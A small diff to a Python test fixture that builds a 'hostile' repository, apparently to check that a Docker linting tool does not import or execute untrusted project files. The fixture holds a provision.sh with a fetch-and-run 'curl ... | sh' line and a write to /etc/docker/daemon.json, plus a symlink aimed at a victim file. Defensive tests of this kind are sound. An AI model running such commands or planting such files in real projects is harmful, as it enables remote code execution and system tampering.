@@ -464,6 +464,7 @@ def _hostile_repositories(tmp_path: Path):
         "evilmod.py": "raise SystemExit('imported')\n",
         "policies/__init__.py": "raise SystemExit('imported')\n",
         "linter/__init__.py": "raise SystemExit('imported')\n",
+        "dlint_docker/__init__.py": "raise SystemExit('imported')\n",
         "provision.sh": "#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\necho '{\"live-restore\": true}' > /etc/docker/daemon.json\n",
     })
     (hostile / "report.txt").symlink_to(tmp_path / "victim.txt")
